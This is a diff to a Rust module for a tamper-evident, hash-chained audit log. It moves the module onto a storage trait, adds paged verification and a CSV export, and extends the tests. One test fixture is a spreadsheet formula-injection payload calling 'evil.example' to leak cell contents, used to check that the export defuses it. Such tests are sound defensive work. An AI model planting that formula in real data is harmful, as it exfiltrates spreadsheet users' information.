@@ -9,14 +9,15 @@
 //! every later hash. Exporting the log regularly (and keeping the last hash elsewhere)
 //! closes that gap; `mamori-gateway audit export` prints it.
 //!
-//! Appending takes SQLite's write lock (`BEGIN IMMEDIATE`), so the dashboard and the CLI
-//! can both append without forking the chain.
+//! The rows are the store's ([`AuditRows`]): each backend makes an append atomic against
+//! every other appender (SQLite takes its write lock first), so the dashboard and the CLI can
+//! both append without forking the chain.
 
-use rusqlite::{params, Connection, OptionalExtension};
 use serde::Serialize;
 use sha2::{Digest, Sha256};
 
 use crate::engine::Time;
+use crate::store::{AuditRows, StoreError};
 
 /// The hash before the first entry.
 pub const GENESIS: &str = "0000000000000000000000000000000000000000000000000000000000000000";
@@ -53,61 +54,55 @@ fn digest(prev: &str, seq: i64, fields: [&str; 6]) -> String {
 
 /// Append an entry; returns it.
 pub fn append(
-    conn: &Connection,
+    rows: &mut dyn AuditRows,
     at: Time,
     actor: &str,
     ip: &str,
     action: &str,
     target: &str,
     detail: &str,
-) -> rusqlite::Result<Entry> {
-    let tx = rusqlite::Transaction::new_unchecked(conn, rusqlite::TransactionBehavior::Immediate)?;
-    let last: Option<(i64, String)> = tx
-        .query_row("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1", [], |r| Ok((r.get(0)?, r.get(1)?)))
-        .optional()?;
-    let (seq, prev) = last.map_or((1, GENESIS.to_string()), |(s, h)| (s + 1, h));
+) -> Result<Entry, StoreError> {
     let at = at.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string();
     let detail: String = detail.chars().take(500).collect();
-    let hash = digest(&prev, seq, [&at, actor, ip, action, target, &detail]);
-    tx.execute(
-        "INSERT INTO audit (seq, at, actor, ip, action, target, detail, prev, hash) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9)",
-        params![seq, at, actor, ip, action, target, detail, prev, hash],
-    )?;
-    tx.commit()?;
-    Ok(Entry {
-        seq,
-        at,
-        actor: actor.into(),
-        ip: ip.into(),
-        action: action.into(),
-        target: target.into(),
-        detail,
-        prev,
-        hash,
+    rows.audit_append(&mut |last| {
+        let (seq, prev) = last.map_or((1, GENESIS.to_string()), |(s, h)| (s + 1, h));
+        let hash = digest(&prev, seq, [&at, actor, ip, action, target, &detail]);
+        Entry {
+            seq,
+            at: at.clone(),
+            actor: actor.into(),
+            ip: ip.into(),
+            action: action.into(),
+            target: target.into(),
+            detail: detail.clone(),
+            prev,
+            hash,
+        }
     })
 }
 
 /// Entries, newest first (`before`: only entries with a smaller `seq`).
-pub fn entries(conn: &Connection, before: Option<i64>, limit: usize) -> rusqlite::Result<Vec<Entry>> {
-    let mut stmt = conn.prepare(
-        "SELECT seq, at, actor, ip, action, target, detail, prev, hash FROM audit WHERE seq < ?1 ORDER BY seq DESC LIMIT ?2",
-    )?;
-    let rows = stmt.query_map(params![before.unwrap_or(i64::MAX), limit as i64], row)?;
-    rows.collect()
+pub fn entries(rows: &dyn AuditRows, before: Option<i64>, limit: usize) -> Result<Vec<Entry>, StoreError> {
+    rows.audit_before(before, limit)
 }
 
-fn row(r: &rusqlite::Row<'_>) -> rusqlite::Result<Entry> {
-    Ok(Entry {
-        seq: r.get(0)?,
-        at: r.get(1)?,
-        actor: r.get(2)?,
-        ip: r.get(3)?,
-        action: r.get(4)?,
-        target: r.get(5)?,
-        detail: r.get(6)?,
-        prev: r.get(7)?,
-        hash: r.get(8)?,
-    })
+/// Every entry, oldest first, a page at a time (the log can be long; memory stays bounded).
+fn each(rows: &dyn AuditRows, mut f: impl FnMut(Entry) -> anyhow::Result<bool>) -> anyhow::Result<()> {
+    const PAGE: usize = 1000;
+    let mut after = 0;
+    loop {
+        let page = rows.audit_after(after, PAGE)?;
+        let full = page.len() == PAGE;
+        for e in page {
+            after = e.seq;
+            if !f(e)? {
+                return Ok(());
+            }
+        }
+        if !full {
+            return Ok(());
+        }
+    }
 }
 
 /// What [`verify`] found.
@@ -130,28 +125,29 @@ pub enum Verdict {
 }
 
 /// Walk the whole chain.
-pub fn verify(conn: &Connection) -> rusqlite::Result<Verdict> {
-    let mut stmt =
-        conn.prepare("SELECT seq, at, actor, ip, action, target, detail, prev, hash FROM audit ORDER BY seq")?;
-    let mut rows = stmt.query([])?;
+pub fn verify(rows: &dyn AuditRows) -> anyhow::Result<Verdict> {
     let (mut prev, mut expect_seq, mut n) = (GENESIS.to_string(), 1i64, 0u64);
-    while let Some(r) = rows.next()? {
-        let e = row(r)?;
-        let broken = |reason: &str| Ok(Verdict::Broken { seq: e.seq, reason: reason.to_string() });
-        if e.seq != expect_seq {
-            return broken(&format!("entry {expect_seq} is missing"));
-        }
-        if e.prev != prev {
-            return broken("it does not point at the previous entry's hash");
-        }
-        if digest(&e.prev, e.seq, [&e.at, &e.actor, &e.ip, &e.action, &e.target, &e.detail]) != e.hash {
-            return broken("its contents do not match its hash");
+    let mut broken = None;
+    each(rows, |e| {
+        let reason = if e.seq != expect_seq {
+            Some(format!("entry {expect_seq} is missing"))
+        } else if e.prev != prev {
+            Some("it does not point at the previous entry's hash".to_string())
+        } else if digest(&e.prev, e.seq, [&e.at, &e.actor, &e.ip, &e.action, &e.target, &e.detail]) != e.hash {
+            Some("its contents do not match its hash".to_string())
+        } else {
+            None
+        };
+        if let Some(reason) = reason {
+            broken = Some(Verdict::Broken { seq: e.seq, reason });
+            return Ok(false);
         }
         prev = e.hash;
         expect_seq += 1;
         n += 1;
-    }
-    Ok(Verdict::Intact { entries: n, head: prev })
+        Ok(true)
+    })?;
+    Ok(broken.unwrap_or(Verdict::Intact { entries: n, head: prev }))
 }
 
 /// The whole log as CSV (RFC 4180), oldest first.
@@ -160,15 +156,11 @@ pub fn verify(conn: &Connection) -> rusqlite::Result<Verdict> {
 /// with `=`, `+`, `-`, `@`, a tab or a carriage return: a username typed at the login form,
 /// say) is prefixed with `'`, so it is shown, never run. The hashes are computed over the
 /// stored values, not the exported ones.
-pub fn export_csv(conn: &Connection, out: &mut impl std::io::Write) -> anyhow::Result<u64> {
+pub fn export_csv(rows: &dyn AuditRows, out: &mut impl std::io::Write) -> anyhow::Result<u64> {
     let q = |s: &str| format!("\"{}\"", csv_text(s).replace('"', "\"\""));
     writeln!(out, "seq,at,actor,ip,action,target,detail,prev,hash")?;
-    let mut stmt =
-        conn.prepare("SELECT seq, at, actor, ip, action, target, detail, prev, hash FROM audit ORDER BY seq")?;
-    let mut rows = stmt.query([])?;
     let mut n = 0;
-    while let Some(r) = rows.next()? {
-        let e = row(r)?;
+    each(rows, |e| {
         writeln!(
             out,
             "{},{},{},{},{},{},{},{},{}",
@@ -183,7 +175,8 @@ pub fn export_csv(conn: &Connection, out: &mut impl std::io::Write) -> anyhow::R
             e.hash
         )?;
         n += 1;
-    }
+        Ok(true)
+    })?;
     Ok(n)
 }
 
@@ -212,59 +205,70 @@ mod tests {
 
     #[test]
     fn the_chain_holds_and_notices_an_edit_a_removal_and_a_rewrite() {
-        let (_d, s) = db();
-        let c = s.conn();
+        let (_d, mut s) = db();
         for i in 0..5 {
-            append(c, t(i), "sato", "192.0.2.1", "view_home", &format!("home-{i}"), "").unwrap();
+            append(&mut s, t(i), "sato", "192.0.2.1", "view_home", &format!("home-{i}"), "").unwrap();
         }
-        let Verdict::Intact { entries, head } = verify(c).unwrap() else { panic!("intact") };
-        assert_eq!(entries, 5);
-        assert_eq!(head, entries_head(c));
+        let Verdict::Intact { entries: n, head } = verify(&s).unwrap() else { panic!("intact") };
+        assert_eq!(n, 5);
+        assert_eq!(head, entries(&s, None, 1).unwrap()[0].hash);
 
         // The gateway cannot change or remove an entry.
+        let c = s.conn();
         assert!(c.execute("UPDATE audit SET actor = 'x' WHERE seq = 2", []).is_err());
         assert!(c.execute("DELETE FROM audit WHERE seq = 2", []).is_err());
 
         // Someone with the file can, after dropping the triggers; the chain notices.
         c.execute_batch("DROP TRIGGER audit_no_update; DROP TRIGGER audit_no_delete;").unwrap();
         c.execute("UPDATE audit SET target = 'home-9' WHERE seq = 3", []).unwrap();
-        assert!(matches!(verify(c).unwrap(), Verdict::Broken { seq: 3, .. }));
+        assert!(matches!(verify(&s).unwrap(), Verdict::Broken { seq: 3, .. }));
         c.execute("UPDATE audit SET target = 'home-2' WHERE seq = 3", []).unwrap();
-        assert!(matches!(verify(c).unwrap(), Verdict::Intact { .. }));
+        assert!(matches!(verify(&s).unwrap(), Verdict::Intact { .. }));
         c.execute("DELETE FROM audit WHERE seq = 4", []).unwrap();
-        assert_eq!(verify(c).unwrap(), Verdict::Broken { seq: 5, reason: "entry 4 is missing".into() });
+        assert_eq!(verify(&s).unwrap(), Verdict::Broken { seq: 5, reason: "entry 4 is missing".into() });
     }
 
-    fn entries_head(c: &Connection) -> String {
-        entries(c, None, 1).unwrap()[0].hash.clone()
+    #[test]
+    fn a_long_log_is_walked_page_by_page_to_its_end() {
+        let (_d, mut s) = db();
+        for i in 0..2_345 {
+            append(&mut s, t(i), "sato", "-", "view_home", "home-1", "").unwrap();
+        }
+        assert!(matches!(verify(&s).unwrap(), Verdict::Intact { entries: 2_345, .. }));
+        let mut out = Vec::new();
+        assert_eq!(export_csv(&s, &mut out).unwrap(), 2_345);
+        // A break in a later page is found.
+        s.conn().execute_batch("DROP TRIGGER audit_no_update;").unwrap();
+        s.conn().execute("UPDATE audit SET actor = 'x' WHERE seq = 2001", []).unwrap();
+        assert!(matches!(verify(&s).unwrap(), Verdict::Broken { seq: 2001, .. }));
     }
 
     #[test]
     fn the_export_is_csv_with_quotes_doubled() {
-        let (_d, s) = db();
-        append(s.conn(), t(0), "sato", "-", "ack", "abc", "note with \"quotes\", and a comma").unwrap();
+        let (_d, mut s) = db();
+        append(&mut s, t(0), "sato", "-", "ack", "abc", "note with \"quotes\", and a comma").unwrap();
         let mut out = Vec::new();
-        assert_eq!(export_csv(s.conn(), &mut out).unwrap(), 1);
+        assert_eq!(export_csv(&s, &mut out).unwrap(), 1);
         let text = String::from_utf8(out).unwrap();
         assert!(text.contains("\"note with \"\"quotes\"\", and a comma\""), "{text}");
     }
 
     #[test]
     fn a_cell_a_spreadsheet_would_run_is_exported_as_text() {
-        let (_d, s) = db();
+        let (_d, mut s) = db();
         let evil = r#"=HYPERLINK("http://evil.example/?"&B2,"Open")"#;
-        append(s.conn(), t(0), evil, "-", "login_failed", evil, "").unwrap();
+        append(&mut s, t(0), evil, "-", "login_failed", evil, "").unwrap();
         for lead in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
-            append(s.conn(), t(1), lead, "-", "login_failed", "x", "").unwrap();
+            append(&mut s, t(1), lead, "-", "login_failed", "x", "").unwrap();
         }
         let mut out = Vec::new();
-        export_csv(s.conn(), &mut out).unwrap();
+        export_csv(&s, &mut out).unwrap();
         let text = String::from_utf8(out).unwrap();
         assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?""&B2,""Open"")""#), "{text}");
         for cell in text.lines().skip(1).flat_map(|l| l.split(',')).filter(|c| c.starts_with('"')) {
             let inner = cell.trim_matches('"');
             assert!(!inner.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell} in {text}");
         }
-        assert!(matches!(verify(s.conn()).unwrap(), Verdict::Intact { .. }), "the chain is over the stored values");
+        assert!(matches!(verify(&s).unwrap(), Verdict::Intact { .. }), "the chain is over the stored values");
     }
 }
